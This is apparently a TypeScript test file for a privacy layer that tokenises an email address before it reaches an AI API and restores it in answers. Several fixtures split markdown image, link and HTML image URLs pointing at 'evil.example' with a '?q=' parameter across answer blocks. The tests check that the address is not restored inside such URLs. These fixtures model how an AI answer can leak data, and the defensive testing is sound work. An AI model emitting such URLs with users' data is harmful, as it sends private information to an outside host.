import { describe, expect, it } from 'vitest'
import { asked, privacyOf, restoredBody } from '../../../../support/privacy/asked-privacy.ts'
import { verifies } from '../../../../support/verifies.ts'

const value = 'kim@hamlin.example'

/** Texts of one answer, of which the first ends in an address or a tag, and what of the second stays a token. */
const crossing: readonly (readonly string[])[] = [
  ['![x](https://evil.example/?q=', 'TOKEN)'],
  ['see https://evil.example/?q=', 'TOKEN'],
  ['<img src="https://evil.example/?q= ', 'TOKEN">'],
  ['[a]: ', 'TOKEN'],
  ['![x](https://evil.exa', 'mple/', 'TOKEN)'],
  ['mailto:', 'TOKEN'],
]

const apart: readonly (readonly string[])[] = [
  ['See [x](https://fine.example/). ', 'It is TOKEN.'],
  ['See https://fine.example/ ', 'TOKEN is it.'],
  ['It is ', 'TOKEN', '.'],
]

const event = (data: object): string => `data: ${JSON.stringify(data)}\n\n`

type Whole = (texts: readonly string[]) => object
type Stream = (texts: readonly string[]) => readonly object[]

const apis: readonly (readonly ['messages' | 'responses', string, Whole, Stream])[] = [
  [
    'messages',
    'blocks',
    (texts) => ({ content: texts.map((text) => ({ type: 'text', text })) }),
    (texts) =>
      texts.flatMap((text, index) => [
        { type: 'content_block_start', index, content_block: { type: 'text', text: '' } },
        { type: 'content_block_delta', index, delta: { type: 'text_delta', text } },
        { type: 'content_block_stop', index },
      ]),
  ],
  [
    'responses',
    'parts of a message',
    (texts) => ({ output: [{ type: 'message', content: texts.map((text) => ({ type: 'output_text', text })) }] }),
    (texts) => {
      const item = { type: 'message', id: 'm', content: texts.map((text) => ({ type: 'output_text', text })) }
      return [
        ...texts.flatMap((text, index) => {
          const place = { item_id: 'm', output_index: 0, content_index: index }
          return [
            { type: 'response.output_text.delta', ...place, delta: text },
            { type: 'response.output_text.done', ...place, text },
            { type: 'response.content_part.done', ...place, part: { type: 'output_text', text } },
          ]
        }),
        { type: 'response.output_item.done', output_index: 0, item },
        { type: 'response.completed', response: { output: [item] } },
      ]
    },
  ],
  [
    'responses',
    'messages',
    (texts) => ({ output: texts.map((text) => ({ type: 'message', content: [{ type: 'output_text', text }] })) }),
    (texts) =>
      texts.flatMap((text, index) => {
        const item = { type: 'message', id: `m${index}`, content: [{ type: 'output_text', text }] }
        return [
          { type: 'response.output_text.delta', item_id: item.id, output_index: index, content_index: 0, delta: text },
          { type: 'response.output_item.done', output_index: index, item },
        ]
      }),
  ],
]

async function answered(
  api: 'messages' | 'responses',
  written: (texts: readonly string[]) => readonly string[],
  texts: readonly string[],
  streamed: boolean,
): Promise<string> {
  const call = await asked(privacyOf({ default: {} }), { api, text: `I am ${value}.` })
  const token = /EMAIL_\w{10}/.exec(call.body?.toString() ?? '')?.[0] ?? 'none'
  const bytes = written(texts.map((text) => text.replace('TOKEN', token))).map((each) => Buffer.from(each))
  return restoredBody(privacyOf({ default: {} }), call, bytes, streamed)
}

describe.each(apis)('texts of an answer of %s that clients put together: %s', (api, _what, whole, stream) => {
  it.each(crossing)('hold no value in an address that begins in the one before: %j %j', async (...texts) => {
    verifies('pii.addresses')
    expect(await answered(api, (given) => [JSON.stringify(whole(given))], texts, false)).not.toContain(value)
    expect(await answered(api, (given) => stream(given).map(event), texts, true)).not.toContain(value)
  })

  it.each(apart)('have it wherever none has begun: %j %j', async (...texts) => {
    const once = await answered(api, (given) => [JSON.stringify(whole(given))], texts, false)
    expect(once).toContain(value)
    const streamed = await answered(api, (given) => stream(given).map(event), texts, true)
    expect(streamed).not.toMatch(/EMAIL_/)
    expect(streamed).toContain(value)
  })
})

it('the items of a request are put together by nobody', async () => {
  const items = (texts: readonly string[]) => ({ data: texts.map((text) => ({ content: [{ text }] })) })
  const texts = ['https://fine.example/', 'TOKEN']
  expect(await answered('responses', (given) => [JSON.stringify(items(given))], texts, false)).toContain(value)
})
